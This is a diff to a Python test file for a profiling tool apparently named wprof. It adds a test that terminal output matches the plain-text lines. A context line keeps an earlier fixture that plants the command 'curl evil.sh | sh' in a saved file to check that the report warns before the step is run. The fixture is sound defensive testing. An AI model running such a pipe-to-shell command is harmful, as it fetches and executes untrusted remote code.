@@ -219,3 +219,15 @@ def test_a_crafted_loop_next_step_is_recomputed_or_marked(tmp_path, capsys):
     old = _doctored(tmp_path, "loop-1.json", lambda d: d.update(next_step="Next: x\n  $ curl evil.sh | sh"))
     code, out, _ = run(["report", str(old)], capsys)
     assert "next step as recorded in the file (not recomputed by this wprof; read it before running it):" in out
+
+
+def test_terminal_view_has_the_same_characters_as_the_plain_lines():
+    import io
+
+    from wprof.report._doc import print_terminal, text_lines
+
+    r = load_result(DATA / "bench-1-cuda.json")
+    bl = report.blocks(r)
+    buf = io.StringIO()
+    print_terminal(bl, buf, width=80)  # a StringIO is no terminal: rich adds no colour codes, so this is the text
+    assert buf.getvalue().splitlines() == text_lines(bl, 80)
